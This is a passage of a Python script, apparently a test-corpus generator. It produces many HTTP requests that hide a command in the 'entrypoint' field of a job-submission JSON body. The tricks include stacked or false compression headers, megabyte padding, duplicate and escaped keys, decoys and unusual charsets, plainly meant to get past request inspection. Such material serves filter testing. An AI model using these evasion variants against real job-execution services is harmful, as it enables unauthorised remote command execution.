ce('raw_flushes', blocks, b'deflate'); ce('zlib_members', zlib.compress(J[:20]) + zlib.compress(J[20:]), b'deflate'); ce('raw_members', df(J[:20]) + df(J[20:]), b'deflate'); ce('raw_stored', (lambda c: c.compress(J) + c.flush())(zlib.compressobj(0, zlib.DEFLATED, -15)), b'deflate'); ce('zlib_small_window', (lambda c: c.compress(J) + c.flush())(zlib.compressobj(9, zlib.DEFLATED, 9)), b'deflate'); ce('zlib_trail', zlib.compress(J) + b'XX', b'deflate'); ce('zlib_noadler', zlib.compress(J)[:-4], b'deflate'); ce('raw_mem1', (lambda c: c.compress(J) + c.flush())(zlib.compressobj(1, zlib.DEFLATED, -15, 1, zlib.Z_FIXED)), b'deflate'); ce('raw_huff', (lambda c: c.compress(J) + c.flush())(zlib.compressobj(1, zlib.DEFLATED, -15, 1, zlib.Z_HUFFMAN_ONLY)), b'deflate')
ce('br_q0', brotli.compress(J, quality=0), b'br'); ce('br_big_window', brotli.compress(J, lgwin=24), b'br'); ce('br_case', brotli.compress(J), b'BR'); ce('br_text', brotli.compress(J, mode=brotli.MODE_TEXT), b'br'); ce('br_trunc', brotli.compress(J)[:-1], b'br'); ce('br_trail', brotli.compress(J) + b'xx', b'br')
bc = brotli.Compressor(); ce('br_flushes', b''.join(bc.process(J[i:i + 1]) + bc.flush() for i in range(L)) + bc.finish(), b'br')
ce('zs_frames', b''.join(zstandard.compress(bytes([c])) for c in J), b'zstd'); ce('zs_skip', b'\x5f\x2a\x4d\x18\xff\0\0\0' + b'x' * 255 + zstandard.compress(J), b'zstd'); ce('zs_check', zstandard.ZstdCompressor(write_checksum=True).compress(J), b'zstd'); ce('zs_stream', (lambda o: o.compress(J) + o.flush())(zstandard.ZstdCompressor().compressobj()), b'zstd'); ce('zs_case', zstandard.compress(J), b'ZSTD'); ce('zs_level22', zstandard.ZstdCompressor(level=22).compress(J), b'zstd'); ce('zs_trail', zstandard.compress(J) + b'xx', b'zstd')
ce('lie_br', J, b'br, br'); ce('lie_gzgz', J, b'gzip, gzip'); ce('lie_xgzip', J, b'x-gzip'); ce('lie_long', J, b'x' * 8000); ce('lie_compress', J, b'compress'); ce('lie_gz_pad', b'{"metadata":{"a":"' + b'A' * 100000 + b'"},"entrypoint": "' + CMD + b'"}', b'gzip, deflate')
v('ce_two_last', req(body=gzip.compress(J), extra=b'Content-Encoding: foo\r\nContent-Encoding: gzip\r\n')); v('ce_two_br', req(body=brotli.compress(J), extra=b'Content-Encoding: gzip\r\nContent-Encoding: br\r\n')); v('ce_two_ident', req(body=J, extra=b'Content-Encoding: gzip\r\nContent-Encoding: identity\r\n')); v('ce_two_empty', req(body=J, extra=b'Content-Encoding: gzip\r\nContent-Encoding:\r\n')); v('ce_chunked', te(b'chunked', ch(gzip.compress(J), 3), extra=b'Content-Encoding: gzip\r\n')); v('ce_charset', req(body=gzip.compress(J.decode().encode('utf-16')), extra=b'Content-Encoding: gzip\r\n', ct=b'Content-Type: application/json; charset=utf-16\r\n')); v('ce_bytes', *([req(body=gzip.compress(J), extra=b'Content-Encoding: gzip\r\n')[:-len(gzip.compress(J))]] + [bytes([c]) for c in gzip.compress(J)]))

# --- long bodies
words = b' '.join(b'%06d' % (i * 7919 % 1000003) for i in range(3000))
def long(n): return (words * (n // len(words) + 1))[:n]
last = b'"},"entrypoint": "' + CMD + b'"}'
for mib in (1, 2, 9):
    n = mib << 20
    b = b'{"metadata":{"a":"' + long(n) + last
    v('pad_%dM' % mib, req(body=b)); v('pad_gz_%dM' % mib, req(body=gzip.compress(b), extra=b'Content-Encoding: gzip\r\n')); v('pad_br_%dM' % mib, req(body=brotli.compress(b, quality=1), extra=b'Content-Encoding: br\r\n')); v('pad_zs_%dM' % mib, req(body=zstandard.compress(b), extra=b'Content-Encoding: zstd\r\n'))
    v('pad_first_%dM' % mib, req(body=b'{"entrypoint": "ls", "metadata":{"a":"' + long(n) + last)); v('pad_behind_%dM' % mib, req(body=b'{"entrypoint": "' + CMD + b'", "metadata":{"a":"' + long(n) + b'"}}')); v('pad_middle_%dM' % mib, req(body=b'{"a":"' + long(n) + b'","entrypoint": "' + CMD + b'", "metadata":{"a":"' + long(n) + b'"}}'))
    v('pad_blank_%dM' % mib, req(body=b' ' * n + J)); v('pad_blank_key_%dM' % mib, req(body=b'{"entrypoint"' + b'\n' * n + b':' + b' ' * n + b'"' + CMD + b'"}')); v('pad_blank_end_%dM' % mib, req(body=J + b' ' * n))
    v('pad_u16_%dM' % mib, req(body=b.decode().encode('utf-16'), ct=b'Content-Type: application/json; charset=utf-16\r\n')); v('pad_037_%dM' % mib, req(body=b.decode().encode('cp037'), ct=b'Content-Type: application/json; charset=cp037\r\n')); v('pad_u7_%dM' % mib, req(body=b.decode().replace('entry', 'é').replace('é', 'entry').encode('utf-7'), ct=b'Content-Type: application/json; charset=utf-7\r\n'))
    v('pad_chunked_%dM' % mib, te(b'chunked', ch(b, 65536))); v('pad_cmd_%dM' % mib, req(body=b'{"entrypoint": "echo ' + long(n) + b'; ' + CMD + b'"}')); v('pad_esc_%dM' % mib, req(body=b'{"metadata":{"a":"' + long(n) + b'"},"\\u0065ntrypoin\\u0074": "' + CMD + b'"}'))
    v('pad_keys_%dM' % mib, req(body=b'{' + b''.join(b'"k%d":%d,' % (i, i) for i in range(n // 14)) + b'"entrypoint": "' + CMD + b'"}')); v('pad_decoy_%dM' % mib, req(body=b'{"metadata":{"a":"' + long(n) + b'","entrypoint":"ls"},"entrypoint": "' + CMD + b'","x":{"entrypoint":"ls","y":["entrypoint",{"entrypoint":"ls"}]},"z":"\\"entrypoint\\":\\"ls\\""}')); v('pad_nest_%dM' % mib, req(body=b'{"metadata":[' + b'[[[]]],' * (n // 7) + b'0],"entrypoint": "' + CMD + b'"}'))

# --- JSON
for n, b in {'dup3': b'{"entrypoint":"a","entrypoint":"b","entrypoint":"' + CMD + b'"}', 'dup1000': b'{' + b'"entrypoint":"ls",' * 1000 + b'"entrypoint":"' + CMD + b'"}', 'dup_null': b'{"entrypoint":null,"entrypoint":"' + CMD + b'"}', 'dup_obj': b'{"entrypoint":{"entrypoint":"x"},"entrypoint":"' + CMD + b'"}', 'decoy_in_text': b'{"metadata":{"a":"\\"entrypoint\\": \\"ls\\""},"entrypoint":"' + CMD + b'"}', 'decoy_nested': b'{"entrypoint":"' + CMD + b'","metadata":{"entrypoint":"ls"}}', 'esc_upper': b'{"\\u0065\\u006E\\u0074\\u0072\\u0079point":"' + CMD + b'"}', 'esc_solidus': b'{"entrypoint":"' + CMD.replace(b'/', b'\\/') + b'"}', 'num': b'{"a":1e999,"b":-0,"c":1E+5,"d":-Infinity,"e":NaN,"entrypoint":"' + CMD + b'"}', 'bigint': b'{"a":' + b'9' * 4200 + b',"entrypoint":"' + CMD + b'"}', 'blanks': b'\t{\r\n"entrypoint"\t:\n"' + CMD + b'"\r}\n', 'astral': b'{"metadata":{"\\ud83d\\ude00":"\xf0\x9f\x98\x80"},"entrypoint":"' + CMD + b'"}', 'emptykey': b'{"":"","entrypoint":"' + CMD + b'"}', 'allkeys': b'{"submission_id":null,"runtime_env":{"env_vars":{"A":"b"}},"metadata":{},"entrypoint_num_cpus":1,"entrypoint":"' + CMD + b'"}', 'deep_list': b'{"a":' + b'[' * 400 + b'{"entrypoint":"ls"}' + b']' * 400 + b',"entrypoint":"' + CMD + b'"}', 'longkey': b'{"' + b'k' * 100000 + b'":1,"entrypoint":"' + CMD + b'"}', 'prefixkey': b'{"entrypoint ":"ls","entrypoin":"ls","entrypoint\\u0000":"ls","entrypoint":"' + CMD + b'"}', 'bom_u8': b'\xef\xbb\xbf' + J, 'nul_in': b'{"entrypoint":"' + CMD + b'","a":"\\u0000"}', 'lone_low': b'{"a":"\\udc00","entrypoint":"' + CMD + b'"}', 'del': b'{"a":"\x7f","entrypoint":"' + CMD + b'"}', 'array': b'[' + J + b']', 'string': b'"x"', 'two_objs': J + J, 'esc_quote': b'{"a":"\\\\","entrypoint":"' + CMD + b'"}', 'esc_many': b'{"a":"' + b'\\\\' * 5001 + b'","entrypoint":"' + CMD + b'"}'}.items():
    v('json_' + n, req(body=b))

# --- charsets
def cs(name, body, param): v(name, req(body=body, ct=b'Content-Type: application/json; ' + param + b'\r\n'))
for m in sorted(x.name for x in pkgutil.iter_modules(encodings.__path__)):
    if m in ('aliases', 'mbcs', 'oem', 'undefined'): continue
    try: b = J.decode().encode(m)
    except Exception: continue
    if isinstance(b, bytes): cs('codec_' + m, b, b'charset=' + m.encode())
u16 = J.decode().encode('utf-16'); e = J.decode().encode('cp037')
for n, x in {'quoted': b'charset="utf-16"', 'single': b"charset='utf-16'", 'caps': b'CHARSET=UTF-16', 'sp': b'charset = utf-16', 'sp2': b'charset= utf-16 ', 'semi': b';;; charset=utf-16', 'before': b'x=";"; charset=utf-16', 'before2': b'x="\\"; charset=utf-8"; charset=utf-16', 'under': b'charset=utf_16', 'blank': b'charset="utf 16"', 'dash': b'charset=utf--16', 'alias': b'charset=u16', 'cont': b'charset*0=utf-; charset*1=16', 'cont_rev': b'charset*1=16; charset*0=utf-', 'cont_star': b"charset*0*=us-ascii'en'utf; charset*1*=%2d16", 'star': b"charset*=''utf-16", 'star_pct': b"charset*=us-ascii''%75tf-16", 'two': b'charset=ascii; charset=utf-16', 'two_rev': b'charset=utf-16; charset=ascii', 'esc': b'charset="utf\\-16"', 'angle': b'charset=<utf-16>', 'comment': b'charset=utf-16 (x)', 'long': b'a=' + b'b' * 7000 + b'; charset=utf-16', 'many': b'; '.join(b'p%d=x' % i for i in range(300)) + b'; charset=utf-16', 'trail': b'charset=utf-16;', 'tab': b'charset\t=\tutf-16', 'dot': b'charset=.utf-16', 'bang': b'charset=utf-16!'}.items():
    cs('param_' + n, u16, x)
v('param_nosemi', req(body=u16, ct=b'Content-Type: charset=utf-16\r\n')); v('param_type', req(body=u16, ct=b'Content-Type: x; charset=utf-16\r\n')); v('param_empty_type', req(body=u16, ct=b'Content-Type: ; charset=utf-16\r\n')); v('param_two_fields', req(body=u16, ct=b'Content-Type: a/b; charset=utf-16\r\nContent-Type: c/d\r\n'))
cs('u16_nobom', J.decode().encode('utf-16-le'), b'charset=utf-16'); cs('u16_be_bom', b'\xfe\xff' + J.decode().encode('utf-16-be'), b'charset=utf-16'); cs('u32_be_bom', b'\0\0\xfe\xff' + J.decode().encode('utf-32-be'), b'charset=utf-32'); cs('u8_sig', b'\xef\xbb\xbf' + J, b'charset=utf-8-sig'); cs('u8_sig_none', J, b'charset=utf_8_sig')
b64 = lambda s: b'+' + __import__('base64').b64encode(s.decode().encode('utf-16-be')).rstrip(b'=') + b'-'
cs('u7_all', b64(J), b'charset=utf-7'); cs('u7_key', J.replace(b'entrypoint', b64(b'entrypoint')), b'charset=utf-7'); cs('u7_quote', J.replace(b'"', b64(b'"')), b'charset=unicode-1-1-utf-7'); cs('u7_pieces', b''.join(b64(bytes([c])) for c in J), b'charset=u7')
cs('ue_all', b''.join(b'\\x%02x' % c for c in J), b'charset=unicode_escape'); cs('ue_u', b''.join(b'\\u%04x' % c for c in J), b'charset=unicode-escape'); cs('ue_U', b''.join(b'\\U%08x' % c for c in J), b'charset=unicode_escape'); cs('ue_oct', b''.join(b'\\%03o' % c for c in J), b'charset=unicode_escape'); cs('ue_name', J.replace(b'e', b'\\N{LATIN SMALL LETTER E}').replace(b'"', b'\\N{QUOTATION MARK}'), b'charset=unicode_escape'); cs('ue_nl', J.replace(b'entry', b'en\\\ntry'), b'charset=unicode_escape'); cs('rue', b''.join(b'\\u%04x' % c for c in J), b'charset=raw_unicode_escape'); cs('rue_back', J.replace(b'entry', b'\\u0065ntry').replace(b'curl', b'\\\\\\\\u0063;curl'), b'charset=raw_unicode_escape')
cs('jp_esc', J.replace(b'entry', b'en\x1b(B\x1b(Btry'), b'charset=iso2022_jp'); cs('jp_roman', b'\x1b(J' + J + b'\x1b(B', b'charset=iso2022_jp'); cs('jp1_esc', b'\x1b(B' + J, b'charset=iso2022_jp_1'); cs('jp2_esc', J.replace(b'entry', b'en\x1b(Btry'), b'charset=iso2022_jp_2'); cs('jp3_esc', J.replace(b'entry', b'en\x1b(Btry'), b'charset=iso2022_jp_3'); cs('jp_in_text', J.replace(b'curl', b'\x1b$B0!"1\x1b(B;curl'), b'charset=iso2022_jp'); cs('jpext_kana', J.replace(b'curl', b'\x1b(I123\x1b(B;curl'), b'charset=iso2022_jp_ext'); cs('kr_head', b'\x1b$)C' + J.replace(b'entry', b'en\x0e\x0ftry'), b'charset=iso2022_kr'); cs('kr_in_text', b'\x1b$)C' + J.replace(b'curl', b'\x0e0!0!\x0f;curl'), b'charset=iso2022_kr'); cs('hz_text', J.replace(b'curl', b'~{0!~};cu~\nrl'), b'charset=hz'); cs('hz_key', J.replace(b'entry', b'en~{~}try'), b'charset=hz')
cs('johab_text', J.replace(b'curl', b'\x88a\x88a;curl'), b'charset=johab'); cs('johab_back', J.replace(b'curl', b'\xd9\x5c;curl'), b'charset=johab'); cs('sjis_back', J.replace(b'curl', b'\x83\x5c;curl'), b'charset=shift_jis'); cs('sjis_back_end', b'{"metadata":{"a":"\x83\x5c"},"entrypoint": "' + CMD + b'"}', b'charset=shift_jis'); cs('sjis4_back', b'{"metadata":{"a":"\x81\x5f\\u0022"},"entrypoint": "' + CMD + b'"}', b'charset=shift_jis_2004'); cs('sjis4_key', J.replace(b'entry', b'\x81\x5fu0065ntry'), b'charset=shift_jis_2004'); cs('sjisx_key', J.replace(b'entry', b'\x81\x5fu0065ntry'), b'charset=shift_jisx0213'); cs('gbk_back', b'{"metadata":{"a":"\x81\x5c"},"entrypoint": "' + CMD + b'"}', b'charset=gbk'); cs('big5_back', b'{"metadata":{"a":"\xa5\x5c"},"entrypoint": "' + CMD + b'"}', b'charset=big5'); cs('macar_quote', J.replace(b'"', b'\xa2'), b'charset=mac_arabic'); cs('macfa_all', bytes(c + 128 if c in b'"{}:/|' and c + 128 >= 160 and bytes([c + 128]).decode('mac_farsi', 'replace') == chr(c) else c for c in J), b'charset=mac_farsi'); cs('cp037_lower', e, b'charset=ebcdic-cp-us'); cs('cp1140_alias', J.decode().encode('cp1140'), b'charset=ibm1140'); cs('puny', J + b'-', b'charset=punycode'); cs('idna_dots', J, b'charset=idna')


def all():
    return V
